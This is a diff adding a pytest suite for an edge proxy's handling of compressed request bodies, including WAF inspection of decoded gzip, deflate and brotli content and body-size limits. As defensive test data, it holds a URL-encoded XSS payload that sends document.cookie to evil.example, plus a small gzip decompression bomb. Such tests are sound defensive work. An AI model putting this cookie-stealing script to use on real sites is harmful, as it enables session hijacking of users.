@@ -1,0 +1,94 @@
+"""Compressed request bodies: forwarded byte for byte, limited by what is
+sent, and inspected by the WAF decoded (RFC 9110 §8.4)."""
+from __future__ import annotations
+
+import dataclasses
+import gzip
+import zlib
+
+import brotli
+import pytest
+from aiohttp import web
+
+from edge.config import default_config
+
+
+class RawOrigin:
+    """An origin that records request bodies exactly as they arrive."""
+
+    def __init__(self) -> None:
+        self.seen: list[tuple[dict, bytes]] = []
+
+    async def handle(self, request: web.BaseRequest) -> web.Response:
+        self.seen.append((dict(request.headers), await request.read()))
+        return web.Response(text="saved")
+
+    async def __aenter__(self) -> RawOrigin:
+        self.runner = web.ServerRunner(web.Server(self.handle, auto_decompress=False), access_log=None)
+        await self.runner.setup()
+        site = web.TCPSite(self.runner, "127.0.0.1", 0)
+        await site.start()
+        self.url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"
+        return self
+
+    async def __aexit__(self, *exc) -> None:
+        await self.runner.cleanup()
+
+
+@pytest.fixture
+async def raw_origin():
+    async with RawOrigin() as origin:
+        yield origin
+
+
+COMPRESS = {"gzip": gzip.compress, "deflate": zlib.compress, "br": brotli.compress}
+ATTACK = b"title=x&body=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"
+BENIGN = b"title=hello&body=" + b"a+perfectly+ordinary+comment+" * 200
+FORM = {"Host": "shop.example", "Content-Type": "application/x-www-form-urlencoded"}
+
+
+def site(url: str) -> dict:
+    return {"shop": {"hosts": ["shop.example"], "origins": [{"url": url}], "filters": {"waf": {"mode": "block"}}}}
+
+
+@pytest.mark.parametrize("coding", COMPRESS)
+async def test_a_compressed_body_reaches_the_origin_byte_for_byte(make_edge, client, raw_origin, coding):
+    edge = await make_edge(policies=site(raw_origin.url))
+    sent = COMPRESS[coding](BENIGN)
+    async with client.post(f"{edge.url}/api/posts", data=sent, headers={**FORM, "Content-Encoding": coding}) as r:
+        assert r.status == 200 and await r.text() == "saved"
+    headers, body = raw_origin.seen[-1]
+    assert body == sent
+    assert headers["Content-Encoding"] == coding and headers["Content-Length"] == str(len(sent))
+
+
+@pytest.mark.parametrize("coding", [*COMPRESS, "br, gzip"])
+async def test_the_waf_reads_a_compressed_body_decoded(make_edge, client, raw_origin, coding):
+    edge = await make_edge(policies=site(raw_origin.url))
+    sent = ATTACK
+    for name in coding.split(", "):
+        sent = COMPRESS[name](sent)
+    async with client.post(f"{edge.url}/api/posts", data=sent, headers={**FORM, "Content-Encoding": coding}) as r:
+        assert r.status == 403 and "filter.waf" in r.headers["Cache-Status"]
+    assert raw_origin.seen == []
+
+
+@pytest.mark.parametrize("coding", ["gzip", "br", "deflate"])
+async def test_a_body_that_does_not_decode_is_400(make_edge, client, raw_origin, coding):
+    edge = await make_edge(policies=site(raw_origin.url))
+    async with client.post(f"{edge.url}/api/posts", data=b"\xff" * 64 + ATTACK,
+                           headers={**FORM, "Content-Encoding": coding}) as r:
+        assert r.status == 400 and "bad-body-encoding" in r.headers["Cache-Status"]
+        assert f"not valid {coding}" in await r.text()
+    assert raw_origin.seen == []
+
+
+async def test_body_limits_count_the_bytes_sent_not_decoded(make_edge, client, raw_origin):
+    limits = dataclasses.replace(default_config().limits, max_body_size=100_000)
+    edge = await make_edge(policies=site(raw_origin.url), limits=limits)
+    bomb = gzip.compress(b"\0" * 20_000_000)  # 20 KB on the wire
+    async with client.post(f"{edge.url}/upload", data=bomb, headers={**FORM, "Content-Encoding": "gzip"}) as r:
+        assert r.status == 200
+    assert raw_origin.seen[-1][1] == bomb
+    async with client.post(f"{edge.url}/upload", data=b"x" * 100_001, headers=FORM) as r:
+        assert r.status == 413
